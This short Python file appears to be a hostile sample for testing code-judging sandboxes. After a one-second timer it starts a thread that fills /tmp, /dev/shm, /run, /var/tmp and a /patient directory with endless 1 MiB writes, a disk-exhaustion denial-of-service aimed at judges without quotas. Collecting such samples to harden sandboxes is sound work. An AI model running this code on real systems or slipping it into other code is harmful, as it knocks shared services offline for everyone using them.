"""Fills every place that it can write to.

Known from: judges without quotas.
"""
import threading


def bomb():
    for place in ("/tmp", "/dev/shm", "/patient", "/run", "/var/tmp"):
        for number in range(1000):
            try:
                with open(f"{place}/bomb-{number}", "wb") as file:
                    while True:
                        file.write(bytes(1 << 20))
            except OSError:
                pass


app = load(STARTER)["app"]
threading.Timer(1, bomb).start()
